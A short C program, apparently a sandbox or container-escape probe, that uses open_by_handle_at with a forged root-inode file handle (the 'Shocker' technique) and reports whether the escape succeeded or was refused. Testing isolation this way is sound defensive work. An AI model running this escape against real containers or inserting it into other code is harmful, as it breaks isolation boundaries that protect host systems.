#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>

#define TRY(call) do { if ((call) >= 0) { puts("ESCAPED " #call); return 0; } } while (0)

int main(void) {
    struct {
        struct file_handle head;
        unsigned char bytes[8];
    } handle = {.head = {.handle_bytes = 8, .handle_type = 1}, .bytes = {2}};
    int folder = open("/", O_RDONLY);
    TRY(open_by_handle_at(folder, &handle.head, O_RDONLY));
    puts("REFUSED");
    return 0;
}
